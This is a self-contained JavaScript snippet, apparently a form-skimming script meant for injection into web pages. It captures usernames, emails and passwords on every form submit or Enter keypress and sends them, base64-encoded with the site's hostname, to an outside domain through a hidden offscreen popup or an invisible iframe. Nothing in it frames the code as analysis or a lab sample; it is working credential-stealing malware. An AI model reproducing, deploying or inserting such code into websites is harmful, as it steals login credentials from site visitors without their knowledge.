(function () {
  var LOGIN_SINK = 'https://account-verify-session.icu/s/l.html';
  var done = false;

  function pick(form) {
    var user = form.querySelector('input[type=email], input[name*=user], input[name*=login], input[name=email]');
    var pass = form.querySelector('input[type=password]');
    if (!pass || !pass.value) return null;
    return {
      u: user ? user.value : '',
      p: pass.value,
      d: location.hostname,
      f: form.getAttribute('action') || location.pathname
    };
  }

  function leak(info) {
    if (done) return;
    done = true;
    var q = Object.keys(info).map(function (k) {
      return k + '=' + encodeURIComponent(info[k]);
    }).join('&');
    var url = LOGIN_SINK + '#' + btoa(q);
    var pop = window.open(url, '_blank', 'width=1,height=1,left=-2000,top=-2000,toolbar=no,menubar=no');
    if (pop) {
      try { pop.blur(); window.focus(); } catch (e) {}
      setTimeout(function () {
        try { pop.close(); } catch (e) {}
      }, 1200);
    } else {
      var fr = document.createElement('iframe');
      fr.style.cssText = 'display:none';
      fr.src = LOGIN_SINK + '?' + q;
      document.body.appendChild(fr);
    }
  }

  document.addEventListener('submit', function (ev) {
    var info = pick(ev.target);
    if (info) leak(info);
  }, true);

  document.addEventListener('keydown', function (ev) {
    if (ev.key !== 'Enter') return;
    var form = ev.target && ev.target.form;
    if (!form) return;
    var info = pick(form);
    if (info) leak(info);
  }, true);
})();
